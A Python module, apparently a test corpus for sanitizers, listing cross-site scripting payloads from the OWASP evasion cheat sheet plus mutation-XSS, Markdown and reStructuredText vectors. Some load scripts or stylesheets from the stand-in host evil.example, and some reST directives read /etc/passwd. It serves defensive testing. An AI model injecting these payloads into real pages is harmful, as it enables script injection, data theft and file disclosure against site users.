"""What people write to make a page run something: the kinds of the OWASP XSS filter evasion cheat sheet, and newer ones.

Each calls `alert`, or fetches a script, a sheet or a page from `evil.example`. Many run only in browsers of the past.
"""

from __future__ import annotations

from html import escape

EVIL = "https://evil.example"
_ALERT = "javascript:alert(1)"


def _numbers(text: str, form: str) -> str:
    return "".join(form.format(ord(letter)) for letter in text)


SHEET = {
    "script from elsewhere": f"<SCRIPT SRC={EVIL}/x.js></SCRIPT>",
    "polyglot": "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(1);//'>",
    "malformed a": '\\<a onmouseover="alert(1)"\\>over\\</a\\>',
    "malformed a without quotes": "<a onmouseover=alert(1)>over</a>",
    "malformed img": '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
    "char codes": '<a href="javascript:alert(String.fromCharCode(88,83,83))">click</a>',
    "src past checks": '<IMG SRC=# onmouseover="alert(1)">',
    "src left empty": '<IMG SRC= onmouseover="alert(1)">',
    "src left out": '<IMG onmouseover="alert(1)">',
    "on error": '<IMG SRC=/ onerror="alert(1)"></img>',
    "on error in numbers": f'<img src=x onerror="{_numbers(_ALERT, "&#{:07d}")}">',
    "numbers": f'<a href="{_numbers(_ALERT, "&#{};")}">click</a>',
    "numbers without semicolons": f'<a href="{_numbers(_ALERT, "&#{:07d}")}">click</a>',
    "hexadecimal numbers": f'<a href="{_numbers(_ALERT, "&#x{:x}")}">click</a>',
    "tab": '<a href="jav\tascript:alert(1);">click</a>',
    "encoded tab": '<a href="jav&#x09;ascript:alert(1);">click</a>',
    "encoded line end": '<a href="jav&#x0A;ascript:alert(1);">click</a>',
    "encoded return": '<a href="jav&#x0D;ascript:alert(1);">click</a>',
    "blanks and controls": '<a href=" &#14;  javascript:alert(1);">click</a>',
    "named entities": '<a href="java&Tab;script&colon;alert&lpar;1&rpar;">click</a>',
    "no letter nor digit": f'<SCRIPT/XSS SRC="{EVIL}/x.js"></SCRIPT>',
    "strange signs before =": "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
    "slash": f'<SCRIPT/SRC="{EVIL}/x.js"></SCRIPT>',
    "two brackets": "<<SCRIPT>alert(1);//\\<</SCRIPT>",
    "no end tag": f"<SCRIPT SRC={EVIL}/x.js?< B >",
    "scheme of the page": "<SCRIPT SRC=//evil.example/.j>",
    "half open": '<IMG SRC="`<javascript:alert(1)>`',
    "half open handler": "<img src=x onerror=alert(1) ",
    "escaped escapes": '\\";alert(1);//',
    "end of script": "</script><script>alert(1);</script>",
    "end of title": "</TITLE><SCRIPT>alert(1);</SCRIPT>",
    "input": '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
    "focus": "<input onfocus=alert(1) autofocus>",
    "body background": '<BODY BACKGROUND="javascript:alert(1)">',
    "dynsrc": '<IMG DYNSRC="javascript:alert(1)">',
    "lowsrc": '<IMG LOWSRC="javascript:alert(1)">',
    "list style": '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>one</br>',
    "vbscript": "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "livescript": '<IMG SRC="livescript:[code]">',
    "svg": "<svg/onload=alert(1)>",
    "template literal": "<script>Set.constructor`alert\\x281\\x29```</script>",
    "body": "<BODY ONLOAD=alert(1)>",
    "bgsound": '<BGSOUND SRC="javascript:alert(1);">',
    "javascript includes": '<BR SIZE="&{alert(1)}">',
    "style sheet": '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
    "style sheet from elsewhere": f'<LINK REL="stylesheet" HREF="{EVIL}/x.css">',
    "imported sheet": f"<STYLE>@import'{EVIL}/x.css';</STYLE>",
    "sheet in a header": f'<META HTTP-EQUIV="Link" Content="<{EVIL}/x.css>; REL=stylesheet">',
    "binding": f'<STYLE>BODY{{-moz-binding:url("{EVIL}/x.xml#x")}}</STYLE>',
    "broken-up style": "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(1)';</STYLE>",
    "style attribute": '<IMG STYLE="xss:expr/*XSS*/ession(alert(1))">',
    "picture of a style": f'<DIV STYLE="background-image: url({EVIL}/track.gif)">',
    "picture of a style in numbers": '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\\006a\\0061vascript:alert(1)\\0029">',
    "unknown element": f'<XSS STYLE="behavior: url({EVIL}/x.htc);" onclick="alert(1)" tabindex=1 autofocus onfocus=alert(1)>',
    "us-ascii": "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
    "refresh": '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
    "refresh to data": '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
    "refresh to elsewhere": f'<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL={EVIL}/page">',
    "iframe": '<IFRAME SRC="javascript:alert(1);"></IFRAME>',
    "iframe with an event": '<IFRAME SRC=# onmouseover="alert(1)"></IFRAME>',
    "iframe with a document": '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "frame": '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>',
    "table": '<TABLE BACKGROUND="javascript:alert(1)"><TR><TD BACKGROUND="javascript:alert(1)">cell</TABLE>',
    "hidden below": "<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->",
    "base": '<BASE HREF="javascript:alert(1);//">',
    "base elsewhere": f'<base href="{EVIL}/"><script src="x.js"></script>',
    "object": f'<OBJECT TYPE="text/x-scriptlet" DATA="{EVIL}/scriptlet.html"></OBJECT>',
    "object of data": '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    "embed": '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4=" AllowScriptAccess="always"></EMBED>',
    "applet": '<applet code="javascript:alert(1);">',
    "html and time": '<?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><t:set attributeName="innerHTML" to="<SCRIPT DEFER>alert(1)</SCRIPT>">',
    "name with jpg": f'<SCRIPT SRC="{EVIL}/x.jpg"></SCRIPT>',
    "server side": "<!--#exec cmd=\"/bin/echo '<SCR'\"--><!--#exec cmd=\"/bin/echo 'IPT>alert(1)</SCRIPT>'\"-->",
    "php": "<? echo('<SCR)'; echo('IPT>alert(1)</SCRIPT>'); ?>",
    "cookie": '<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert(1)</SCRIPT>">',
    "utf-7": '<META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7">+ADw-SCRIPT+AD4-alert(1);+ADw-/SCRIPT+AD4-',
    "bracket in a quoted attribute": f'<SCRIPT a=">" SRC="{EVIL}/x.js"></SCRIPT>',
    "bracket behind a blank": f'<SCRIPT =">" SRC="{EVIL}/x.js"></SCRIPT>',
    "mixed quotes": f'<SCRIPT "a=\'>\'" SRC="{EVIL}/x.js"></SCRIPT>',
    "script by halves": f'<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="{EVIL}/x.js"></SCRIPT>',
    "details": "<details open ontoggle=alert(1)>more</details>",
    "marquee": "<marquee onstart=alert(1)>moving</marquee>",
    "video source": '<Video><source onerror="javascript:alert(1)">',
    "audio": "<audio src=x onerror=alert(1) controls autoplay>",
    "form": f'<form action="javascript:alert(1)"><button formaction="{EVIL}/">send</button></form><isindex action="javascript:alert(1)" type=image>',
    "link in svg": '<svg><a xlink:href="javascript:alert(1)"><text x="9" y="20">click</text></a></svg>',
    "animation": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text x="9" y="20">click</text></a><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
    "script in svg": "<svg><script>alert&#40;1&#41;</script></svg>",
    "foreign object": "<svg><foreignObject><iframe srcdoc='<script>parent.alert(1)</script>'></iframe></foreignObject></svg>",
    "math": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">click</maction></math>',
}
"""The kinds of the sheet, by what they are about."""

MUTATING = {
    "style in math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "form in math": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "comment": "<!--><img src=x onerror=alert(1)>--><!--!><img src=x onerror=alert(1)>--!>",
    "cdata": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "template": "<template><img src=x onerror=alert(1)></template>",
    "raw text": "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp><noembed></noembed><noframes><p id='</noframes><img src=x onerror=alert(1)>'></noframes>",
    "plain text": "<plaintext><img src=x onerror=alert(1)>",
    "textarea": "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "select": "<select><style></select><img src=x onerror=alert(1)></style></select>",
    "tag in a value": "<p title='<table onmouseover=alert(1) '>over</p>",
    "waiting picture": '<img src="nowhere" alt="<img " data-src="https://x onerror=alert(1) y">',
    "waiting script": '<img data-src="javascript:alert(1)" data-lazy-srcset="javascript:alert(1) 1x">',
    "srcset": '<img srcset="javascript:alert(1) 1x, x&quot;onerror=alert(1) 2x">',
    "back quotes": '<img alt="``onerror=alert(1)" src=x>',
    "clobbering": '<form id=location><a id=document name=cookie href="javascript:alert(1)">x</a></form>',
    "nul": "<scr\x00ipt>alert(1)</scr\x00ipt><img src=x on\x00error=alert(1)>",
}
"""What changes when a browser reads it once more, and what aims at how sanitizers write."""

MARKDOWN = {
    "link": "[click](javascript:alert(1))",
    "link with a tab": "[click](java&#x09;script:alert&#40;1&#41;)",
    "link with entities": "[click](&#106;avascript&colon;alert(1))",
    "link in brackets": "[click](<javascript:alert(1)>)",
    "link to data": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "link of mixed case": "[click](JaVaScRiPt:alert(1)) [click](vbscript:msgbox(1)) [click](\x01javascript:alert(1))",
    "reference": "[click][one]\n\n[one]: javascript:alert(1) '\"onmouseover=alert(1) x'",
    "autolink": '<javascript:alert(1)> <https://a.example/"onmouseover=alert(1)//>',
    "title": "![picture](https://a.example/a.png '\"onerror=alert(1) x')",
    "title with a tag": "[click](https://a.example/ '\"><img src=x onerror=alert(1)>')",
    "image": '![x](javascript:alert(1)) ![x"onerror="alert(1)](x)',
    "code": "`<img src=x onerror=alert(1)>` and\n\n```<img src=x onerror=alert(1)>\n</code></pre><img src=x onerror=alert(1)>\n```",
    "heading": '## A heading {#x"onmouseover=alert(1) onclick=alert(1) .y}',
    "footnote": 'Text[^"><img src=x onerror=alert(1)>].\n\n[^"><img src=x onerror=alert(1)>]: <img src=x onerror=alert(1)>',
    "shortcode": '{{< figure src="x\\" onerror=alert(1) " link="javascript:alert(1)" caption="<img src=x onerror=alert(1)>" >}}',
    "youtube": '{{< youtube "x\\"><img src=x onerror=alert(1)>" >}} {% youtube x"><img src=x onerror=alert(1)> %}',
    "broken by a line": "<img src=x\nonerror=alert(1)> [click](javascript:\nalert(1))",
}
"""What only Markdown makes of a text."""

REST = {
    "raw": ".. raw:: html\n\n   <script>alert(1)</script>\n\n.. role:: page(raw)\n   :format: html\n\n:page:`<script>alert(1)</script>`",
    "include": ".. include:: /etc/passwd\n\n.. csv-table:: passwd\n   :file: /etc/passwd\n\n.. raw:: html\n   :file: /etc/passwd",
    "from elsewhere": f".. csv-table:: asked\n   :url: {EVIL}/table.csv\n\n.. raw:: html\n   :url: {EVIL}/page",
    "target": "`click <javascript:alert(1)>`_ and one_.\n\n.. _one: javascript:alert(1)",
    "image": '.. image:: javascript:alert(1)\n   :target: javascript:alert(1)\n   :alt: "><img src=x onerror=alert(1)>',
    "figure": '.. figure:: data:image/svg+xml;base64,PHN2Zy8+\n   :width: 1" onload=alert(1)\n   :figclass: x" onclick="alert(1)',
    "class": '.. class:: x" onmouseover="alert(1)\n\nSome words.\n\n.. container:: x" onclick="alert(1)\n\n   More words.',
    "code": ".. code:: html\n\n   <script>alert(1)</script>\n\n``<script>alert(1)</script>``",
    "math": ":math:`</code><img src=x onerror=alert(1)>`\n\n.. math::\n\n   <img src=x onerror=alert(1)>",
    "meta": ".. meta::\n   :http-equiv=refresh: 0;url=javascript:alert(1)\n\nSome words.",
}  # fmt: skip
"""What only reStructuredText makes of a text."""

HTML = SHEET | MUTATING
"""What is HTML, wherever it stands."""


def page(title: str, payload: str) -> str:
    """Give a web page that holds a payload, as browsers save it."""
    body = f"<p>The mayor read this aloud:</p>\n{payload}\n<p>Nobody answered her.</p>"
    head = f"<head><title>{escape(title)}</title></head>"
    return f"<!DOCTYPE html>\n<html>{head}\n<body><article><h1>{escape(title)}</h1>\n{body}</article></body></html>\n"
